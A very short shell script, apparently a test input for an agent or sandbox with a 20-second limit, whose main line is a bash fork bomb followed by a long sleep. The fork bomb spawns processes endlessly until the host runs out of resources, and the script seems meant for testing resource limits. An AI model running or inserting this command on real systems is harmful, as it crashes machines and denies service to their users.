# starts processes without end
# agent seconds: 20
:(){ :|:& }; :
sleep 3000
